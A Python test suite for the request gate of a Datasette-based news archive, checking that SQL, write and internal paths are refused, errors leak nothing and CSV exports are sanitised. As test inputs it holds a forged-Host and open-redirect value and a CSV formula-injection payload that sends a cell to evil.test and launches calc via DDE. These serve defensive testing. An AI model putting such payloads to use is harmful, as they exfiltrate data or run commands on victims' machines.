"""The gate: what of Datasette a reader may ask for, and the answers that cost nothing."""

from __future__ import annotations

import pytest
import pytest_asyncio

from archive.site import datasette_for
from archive.site.server.request_limits import TARGET_BYTES, refusal
from archive.store import Store


@pytest.mark.parametrize(
    ("path", "query", "status"),
    [
        pytest.param("/", "", None, id="home"),
        pytest.param("/tim", "q=x&page=2", None, id="search"),
        pytest.param("/archive", "", None, id="database"),
        pytest.param("/archive.json", "", None, id="database as JSON"),
        pytest.param("/archive/article", "_sort=id&portal=1", None, id="table"),
        pytest.param("/archive/article.csv", "_stream=1", None, id="table as CSV"),
        pytest.param("/archive/article/20200111.json", "", None, id="row"),
        pytest.param("/archive/article/-/count", "", None, id="count of a table"),
        pytest.param("/-/capture/urn:uuid:1", "view=1", None, id="capture"),
        pytest.param("/-/static/app.css", "", None, id="Datasette's style"),
        pytest.param("/archives", "", None, id="another page whose name begins alike"),
        pytest.param("/archive/-/query.json", "sql=select+1", 403, id="SQL"),
        pytest.param("/archive/-/query", "", 403, id="SQL editor"),
        pytest.param("/archive/-/queries", "", 403, id="stored queries"),
        pytest.param("/archive", "sql=select+1", 403, id="SQL of earlier versions"),
        pytest.param("/archive.json", "%73ql=select+1", 403, id="SQL, its key encoded"),
        pytest.param("/archive/article", "_where=1", 403, id="a condition in SQL"),
        pytest.param("/archive/-/query/store", "", 403, id="store a query"),
        pytest.param("/archive/article/-/insert", "", 404, id="write"),
        pytest.param("/archive/-/create", "", 404, id="create a table"),
        pytest.param("/archive/article/1/-/delete", "", 404, id="delete a row"),
        pytest.param("/archive.db", "", 404, id="the file itself"),
        pytest.param("/-/databases.json", "", 404, id="paths of the machine"),
        pytest.param("/-/versions", "", 404, id="versions"),
        pytest.param("/-", "", 404, id="Datasette's front page"),
        pytest.param("/tim", "q=" + "a" * TARGET_BYTES, 414, id="too long"),
        pytest.param("/tim", "&".join("a=1" for _ in range(100)), 414, id="too many parameters"),
    ],
)
def test_what_may_be_asked_for(path, query, status):
    found = refusal("GET", path, query, route="archive", sql=False)
    assert (found.status if found else None) == status


def test_only_reading_is_allowed_and_everything_but_size_to_the_owner():
    assert refusal("POST", "/", "", route="archive", sql=False).status == 405
    assert refusal("HEAD", "/", "", route="archive", sql=False) is None
    assert refusal("POST", "/archive/-/query", "sql=select+1", route="archive", sql=True) is None
    assert refusal("GET", "/-/versions", "", route="archive", sql=True) is None
    assert refusal("GET", "/", "a" * 9_999, route="archive", sql=True).status == 414


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def client(tmp_path_factory):
    """The site of an empty archive, started once for all that only read."""
    folder = tmp_path_factory.mktemp("kho")
    (folder / "warc").mkdir()
    Store.open(folder / "archive.db").close()
    datasette = datasette_for(folder)
    await datasette.invoke_startup()
    return datasette.client


@pytest.mark.asyncio(loop_scope="module")
@pytest.mark.parametrize("path", ["/archive/-/query?sql=select+1", "/-/versions", "/archive/-/query.json?sql=x"])
async def test_a_refusal_bears_the_security_headers_and_both_languages(client, path):
    response = await client.get(path)
    assert response.headers["content-security-policy"].startswith("default-src 'none'")
    assert response.headers["x-content-type-options"] == "nosniff"
    if not path.split("?")[0].endswith(".json"):
        assert 'lang="vi"' in response.text
        assert 'lang="en"' in response.text


@pytest.mark.asyncio(loop_scope="module")
@pytest.mark.parametrize("host", ["evil.example/x", "[::1", "a b", "x" * 300])
async def test_a_host_that_is_none_is_refused(client, host):
    assert (await client.get("/", headers={"host": host})).status_code == 400


async def test_the_owner_may_run_sql(store, folder):
    datasette = datasette_for(folder, sql=True)
    await datasette.invoke_startup()
    response = await datasette.client.get("/archive/-/query.json?sql=select+1+as+n")
    assert response.json()["rows"] == [{"n": 1}]


@pytest.mark.asyncio(loop_scope="module")
@pytest.mark.parametrize(
    ("path", "status"),
    [
        pytest.param("/archive/none.json", 404, id="no such table, JSON"),
        pytest.param("/archive/none", 404, id="no such table"),
        pytest.param("/archive/article?_sort=none", 400, id="no such column"),
        pytest.param("/archive/article.json?_sort=none", 400, id="no such column, JSON"),
        pytest.param("/archive/article.csv?_sort=none", 400, id="no such column, CSV"),
        pytest.param("/archive/article?_size=x", 400, id="bad size"),
        pytest.param("/archive/article/x~2", 404, id="no such row"),
    ],
)
async def test_a_request_that_is_wrong_is_answered_by_ourselves_without_a_traceback(client, path, status, capsys):
    response = await client.get(path)
    assert response.status_code == status
    assert "Traceback" not in response.text
    if "." not in path.split("?")[0]:
        assert "Tin Huyện" in response.text


@pytest.mark.asyncio(loop_scope="module")
async def test_a_fault_of_ours_is_one_line_in_the_log_and_no_detail_for_the_reader(client, monkeypatch, caplog):
    def broken(*_):
        raise RuntimeError("/secret/path\nsecond line")

    monkeypatch.setattr("archive.queries.summaries.portal_summaries", broken)
    response = await client.get("/cong")
    assert response.status_code == 500
    assert "secret" not in response.text
    (record,) = [record for record in caplog.records if record.name == "tinhuyen.site"]
    assert "\n" not in record.getMessage()
    assert "RuntimeError" in record.getMessage()


async def test_permalinks_are_made_of_the_sites_own_address_never_of_the_host_header(
    store, folder, make_article, make_capture
):
    store.save_article(make_article(title="Bài", text="Đoạn."), make_capture(), "hungha.thaibinh")
    (identifier,) = store.conn.execute("SELECT id FROM article").fetchone()
    for address, wanted in (
        (None, f'"/bai/{identifier}'),
        ("https://kho.example.org/", f"https://kho.example.org/bai/{identifier}"),
    ):
        datasette = datasette_for(folder, address=address)
        await datasette.invoke_startup()
        html = (await datasette.client.get(f"/bai/{identifier}", headers={"host": "evil.example"})).text
        assert "evil.example" not in html
        assert wanted in html


@pytest.mark.asyncio(loop_scope="module")
async def test_no_address_of_ours_leads_to_another_host(client):
    html = (await client.get("/en//evil.example/x")).text
    assert 'href="//' not in html


async def test_csv_cells_are_no_formulas(store, folder, make_article, make_capture):
    evil = make_article(title='=HYPERLINK("http://evil.test/?"&A1,"Xem")', section="+1+cmd|' /C calc'!A0", text="Đoạn.")
    store.save_article(evil, make_capture(), "hungha.thaibinh")
    datasette = datasette_for(folder)
    await datasette.invoke_startup()
    section = (await datasette.client.get("/archive/section.csv")).text
    assert "'+1+cmd|" in section
